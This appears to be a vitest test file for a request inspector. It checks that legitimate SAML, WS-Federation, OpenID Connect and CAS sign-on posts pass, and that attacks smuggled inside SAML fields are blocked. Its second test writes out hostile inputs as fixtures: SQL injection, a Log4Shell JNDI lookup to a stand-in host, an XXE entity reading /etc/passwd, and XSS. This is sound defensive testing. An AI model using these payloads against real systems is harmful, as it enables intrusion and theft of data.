// People who sign on elsewhere come back with a document in a field, which is full of what attacks are made of.

import { describe, expect, it } from 'vitest';
import { form } from '../decode/request.ts';
import { isShipped, shippedInspector } from '../evasions/shippedInspector.ts';

const BLOB = Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 7919) % 251)).toString('base64');
const XS =
  'xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';

function attribute(name: string, value: string): string {
  return `<saml2:Attribute Name="${name}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic"><saml2:AttributeValue ${XS} xsi:type="xs:string">${value}</saml2:AttributeValue></saml2:Attribute>`;
}

/** As large identity providers write it. */
function samlResponse(attributes: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<saml2p:Response Destination="https://www.example.com/saml/acs" ID="_1f" InResponseTo="ONELOGIN_1" IssueInstant="2026-03-01T10:00:00.000Z" Version="2.0" xmlns:saml2p="urn:oasis:names:tc:SAML:2.0:protocol"><saml2:Issuer xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion">http://www.idp.example/exk1</saml2:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/></ds:SignedInfo><ds:SignatureValue>${BLOB}</ds:SignatureValue><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${BLOB}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature><saml2:Assertion><saml2:Subject><saml2:NameID>anna@example.com</saml2:NameID></saml2:Subject><saml2:AttributeStatement>${attributes}</saml2:AttributeStatement></saml2:Assertion></saml2p:Response>`;
}

const GROUPS = attribute('groups', 'CN=Editors &amp; Admins,OU=Web');
const NAME = attribute('http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name', "Anna O'Neil");
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const body = (fields: Readonly<Record<string, string>>): string => new URLSearchParams(fields).toString();

describe.skipIf(!isShipped())('signing on elsewhere', () => {
  const inspector = shippedInspector();
  const actionOn = (fields: Readonly<Record<string, string>>): string =>
    inspector.inspect(form('/saml/acs', body(fields))).action;

  it('passes: SAML, in one line or in many, WS-Federation, OpenID Connect, CAS', () => {
    const saml = base64(samlResponse(GROUPS + NAME));
    const token = [{ alg: 'RS256' }, { sub: '1', name: "Anna O'Neil", nonce: 'x' }].map((part) =>
      Buffer.from(JSON.stringify(part)).toString('base64url'),
    );
    expect([
      actionOn({ SAMLResponse: saml, RelayState: 'https://www.example.com/user?check_logged_in=1' }),
      actionOn({ SAMLResponse: saml.replaceAll(/(.{76})/g, '$1\r\n') }),
      actionOn({ wa: 'wsignin1.0', wresult: samlResponse(NAME) }),
      actionOn({ id_token: [...token, BLOB.replaceAll(/[+/=]/g, '_')].join('.'), state: 'abc.def' }),
      actionOn({
        logoutRequest:
          '<samlp:LogoutRequest ID="1"><samlp:SessionIndex>ST-1</samlp:SessionIndex></samlp:LogoutRequest>',
      }),
    ]).toEqual(['pass', 'pass', 'pass', 'pass', 'pass']);
  });

  it('hides no attack', () => {
    const evil = (text: string): string =>
      actionOn({ SAMLResponse: base64(samlResponse(attribute('a', text))) });
    expect(evil(`' union select 1,2,3 from users-- `)).toBe('block');
    expect(evil('${jndi:ldap://x.example/a}')).toBe('block');
    const document = `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><samlp:Response>&b;</samlp:Response>`;
    expect(actionOn({ SAMLResponse: base64(document) })).toBe('reject');
    expect(actionOn({ SAMLResponse: '<img src=x onerror=alert(1)>' })).toBe('block');
    expect(actionOn({ SAMLResponse: `' or 1=1-- -` })).toBe('block');
    expect(
      actionOn({ p: base64('<samlp:Response xmlns="x"><script>alert(1)</script></samlp:Response>') }),
    ).toBe('block');
  });
});
